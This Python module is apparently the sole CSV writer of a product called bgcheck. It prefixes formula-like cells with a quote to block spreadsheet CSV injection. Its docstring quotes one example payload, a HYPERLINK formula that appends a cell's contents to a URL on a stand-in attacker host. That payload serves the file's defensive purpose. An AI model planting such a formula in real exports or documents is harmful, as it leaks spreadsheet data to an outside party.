"""The one CSV writer of bgcheck: every CSV the product writes goes through it.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (OWASP "CSV injection"): a display name such as
``=HYPERLINK("https://evil.example/?"&A1,"click")`` would run on the auditor's machine.
``neutralize`` prefixes such a cell with ``'``, which spreadsheets show as text. The
writers here neutralize every cell, so a caller cannot forget to.

``tests/api/test_csv_exports.py`` finds every route that serves CSV and checks its cells,
and that no other module imports ``csv``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Final

MEDIA_TYPE: Final = "text/csv; charset=utf-8"
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralize(cell: str) -> str:
    """Prefix ``'`` to a cell a spreadsheet would run as a formula."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def cell_text(value: object) -> str:
    """A value as its cell: None is empty, anything else its ``str``, neutralized."""
    return neutralize("" if value is None else str(value))


class CsvWriter:
    """Rows in, RFC 4180 text out (CRLF, quotes where needed), every cell neutralized.

    Holds only what was written since the last ``drain``, so an export stays in
    constant memory however many rows it writes.
    """

    def __init__(self) -> None:
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer)

    def write(self, cells: Iterable[object]) -> None:
        self._writer.writerow([cell_text(value) for value in cells])

    @property
    def pending(self) -> int:
        """Characters written since the last ``drain``."""
        return self._buffer.tell()

    def drain(self) -> str:
        """What was written since the last call, leaving the writer empty."""
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text


def csv_line(cells: Iterable[object]) -> str:
    """One CSV line, cells neutralized."""
    writer = CsvWriter()
    writer.write(cells)
    return writer.drain()


def csv_document(header: Iterable[str], rows: Iterable[Iterable[object]]) -> str:
    """A whole (small) CSV file: the header, then the rows."""
    writer = CsvWriter()
    writer.write(header)
    for row in rows:
        writer.write(row)
    return writer.drain()
